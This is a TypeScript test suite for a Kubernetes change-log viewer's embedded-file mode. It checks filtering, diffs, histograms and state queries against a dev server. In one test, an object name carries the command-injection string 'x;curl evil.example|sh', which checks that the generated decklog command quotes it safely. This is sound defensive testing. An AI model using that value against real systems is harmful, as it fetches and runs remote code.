import assert from "node:assert/strict";
import { test } from "node:test";
import { Embedded, glob, type FileData } from "../src/embedded.ts";
import { lineDiff } from "../src/linediff.ts";
import { NO_FILTERS } from "../src/url.ts";
// @ts-expect-error: plain JavaScript
import { makeLog } from "../dev/log.mjs";
// @ts-expect-error: plain JavaScript
import { Api, fileData } from "../dev/api.mjs";

const log = makeLog({ now: Date.parse("2026-11-25T03:00:00Z") });
const api = new Api(log);
api.now = () => log.now;
const served = fileData(api) as FileData;
const file = new Embedded(JSON.parse(JSON.stringify(served)) as FileData);
const ALL = { since: "", until: "" };

test("the file answers as the server does", async () => {
  for (const filters of [
    NO_FILTERS, { ...NO_FILTERS, what: ["deploy/web"] }, { ...NO_FILTERS, namespace: ["pay"] }, { ...NO_FILTERS, type: ["DELETED"] }, { ...NO_FILTERS, area: ["spec"] },
    { ...NO_FILTERS, what: ["pods/web-*"], type: ["ADDED", "MODIFIED"] },
  ]) {
    const query = new URLSearchParams();
    for (const what of filters.what) query.append("what", what);
    for (const namespace of filters.namespace) query.append("namespace", namespace);
    if (filters.type.length > 0) query.set("type", filters.type.join(","));
    if (filters.area.length > 0) query.set("area", filters.area.join(","));
    const [here, there] = [await file.lanes(ALL, filters), api.lanes(query) as typeof served.lanes];
    const told = (lanes: typeof here.lanes) => lanes.map((lane) => [lane.id, lane.depth, lane.marks.filter((mark) => mark.type !== "QUIET").map((mark) => mark.seq)]);
    // Where an owner is filtered away, the server may order what is left otherwise.
    assert.deepEqual(told(here.lanes).sort(), told(there.lanes).sort(), JSON.stringify(filters));
  }
});

test("a file has no CEL, and says so", async () => {
  await assert.rejects(file.lanes(ALL, { ...NO_FILTERS, where: 'kind == "Pod"' }), /a file has no CEL/);
});

test("an entry that is not in the file names the command that has it", async () => {
  await assert.rejects(file.entry(999_999), /decklog show 999999/);
});

test("an entry without what it changed says so, and a GAP is whole", async () => {
  const [mark] = served.lanes.lanes.flatMap((lane) => lane.marks.filter((one) => one.type === "MODIFIED"));
  const thin = new Embedded({ ...served, entries: {} });
  const entry = await thin.entry(mark!.seq);
  assert.match(entry.missing ?? "", new RegExp(`decklog show ${mark!.seq}`));
  assert.deepEqual(entry.summary.areas, mark!.areas);
  const gap = await thin.entry(served.overview.gaps[0]!.seq);
  assert.equal(gap.summary.type, "GAP");
  assert.equal(gap.missing, undefined);
  await assert.rejects(thin.diff(mark!.seq, mark!.seq), /is not in this file/);
});

test("what was there at a moment", async () => {
  const { objects } = await file.state("2026-11-25T00:00:00Z", { ...NO_FILTERS, what: ["deploy"] });
  const { objects: there } = api.state(new URLSearchParams({ at: "2026-11-25T00:00:00Z", what: "deploy" })) as { objects: { id: string }[] };
  assert.deepEqual(objects.map((object) => object.id).sort(), there.map((object) => object.id).sort());
  await assert.rejects(file.state("soon", NO_FILTERS), /is no moment/);
});

test("the histogram counts what the lanes show", async () => {
  const counted = await file.histogram(ALL, 100, NO_FILTERS);
  const sum = counted.buckets.flat().reduce((a, b) => a + b, 0);
  const marks = served.lanes.lanes.flatMap((lane) => lane.marks).filter((mark) => mark.type !== "QUIET").length;
  assert.equal(sum, marks + served.overview.gaps.length);
});

test("names with * and ?", () => {
  assert.ok(glob("web-*", "web-1"));
  assert.ok(glob("w?b", "web"));
  assert.ok(!glob("web", "web-1"));
  assert.ok(!glob("a.c", "abc"));
});

test("the difference of two texts", () => {
  assert.equal(lineDiff("a\nb\nc", "a\nx\nc"), "  a\n- b\n+ x\n  c");
  assert.equal(lineDiff("same", "same"), "");
  const before = Array.from({ length: 40 }, (_, index) => `line ${index}`);
  const after = before.map((line, index) => (index === 5 || index === 30 ? `${line} changed` : line));
  const shown = lineDiff(before.join("\n"), after.join("\n")).split("\n");
  assert.equal(shown.filter((line) => line.startsWith("- ")).length, 2);
  assert.equal(shown.filter((line) => line.startsWith("+ ")).length, 2);
  assert.ok(shown.length < 22);
  const far = lineDiff(Array.from({ length: 3000 }, (_, index) => `a${index}`).join("\n"), Array.from({ length: 3000 }, (_, index) => `b${index}`).join("\n"));
  assert.equal(far.split("\n").length, 6000);
});

test("a name is no command", async () => {
  const copy = JSON.parse(JSON.stringify(served)) as FileData;
  const [lane] = copy.lanes.lanes.filter((one) => one.marks.filter((mark) => copy.entries[mark.seq]?.yaml).length > 1);
  const seqs = lane!.marks.map((mark) => mark.seq).filter((seq) => copy.entries[seq]?.yaml).slice(0, 2);
  for (const seq of seqs) copy.entries[seq]!.summary.name = "x;curl evil.example|sh 'y";
  const { command } = await new Embedded(copy).diff(seqs[0]!, seqs[1]!);
  assert.match(command!, /^decklog diff '[a-z]+\/x;curl evil\.example\|sh '\\''y'/);
});

test("a file knows nothing beyond its ends", async () => {
  const copy = JSON.parse(JSON.stringify(served)) as FileData;
  const until = Date.parse(copy.lanes.until) - 3_600_000;
  copy.lanes.until = new Date(until).toISOString();
  const short = new Embedded(copy);
  const known = await short.overview();
  assert.deepEqual([Date.parse(known.now), Date.parse(known.end)], [until, until]);
  const answer = await short.lanes({ since: copy.lanes.since, until: "2026-11-25T03:00:00Z" }, NO_FILTERS);
  assert.equal(Date.parse(answer.until), until);
  await assert.rejects(short.state("2026-11-25T03:00:00Z", NO_FILTERS), /is not in this file, which goes from/);
  await assert.rejects(short.state("2020-01-01T00:00:00Z", NO_FILTERS), /is not in this file/);
});

test("what became of objects between two moments", async () => {
  const asked = { from: "2026-11-25T00:00:00Z", to: "2026-11-25T02:00:00Z" };
  for (const what of [["deploy"], ["pods"], []]) {
    const filters = { ...NO_FILTERS, what };
    const found = await file.changes(asked.from, asked.to, filters);
    const query = new URLSearchParams([["from", asked.from], ["to", asked.to], ...what.map((one): [string, string] => ["what", one])]);
    const there = api.changes(query) as typeof found;
    const short = (changes: typeof found): string[] => changes.objects.map((object) => `${object.id} ${object.became}`).sort();
    assert.deepEqual(short(found), short(there));
    assert.equal(found.came_and_went, there.came_and_went);
    assert.ok(what.length > 0 || new Set(found.objects.map((object) => object.became)).size > 1, "nothing to compare");
  }
  await assert.rejects(file.changes(asked.to, asked.from, NO_FILTERS), /swap them/);
  await assert.rejects(file.changes("soon", asked.to, NO_FILTERS), /is no moment/);
});

test("a file that was written with a selection of marks says by its bars what was there", async () => {
  const copy = JSON.parse(JSON.stringify(served)) as FileData;
  const asked = ["2026-11-25T00:00:00Z", "2026-11-25T02:00:00Z"] as const;
  const came = (await file.changes(...asked, NO_FILTERS)).objects.filter((object) => object.became === "added" || object.became === "removed");
  assert.ok(came.length > 1);
  for (const lane of copy.lanes.lanes) lane.marks = lane.marks.filter((mark) => mark.type === "MODIFIED");
  copy.entries = {};
  const found = await new Embedded(copy).changes(...asked, NO_FILTERS);
  const short = (objects: typeof came): string[] => objects.map((object) => `${object.id} ${object.became}`);
  for (const one of short(came)) assert.ok(short(found.objects).includes(one), one);
  assert.equal(found.came_and_went, (await file.changes(...asked, NO_FILTERS)).came_and_went);
});

test("of what nobody knew is told where it was asked for", async () => {
  const copy = JSON.parse(JSON.stringify(served)) as FileData;
  copy.lanes.unwatched = [{ resource: "pods", namespace: "", from: null, to: "2026-11-25T01:00:00Z", why: "not_yet", seq: null }];
  const one = new Embedded(copy);
  const at = async (time: string, what: string[]): Promise<number> => (await one.state(time, { ...NO_FILTERS, what })).unknown.length;
  assert.deepEqual([await at("2026-11-25T00:30:00Z", []), await at("2026-11-25T00:30:00Z", ["pods"]), await at("2026-11-25T00:30:00Z", ["deploy"]), await at("2026-11-25T01:30:00Z", [])], [1, 1, 0, 0]);
});
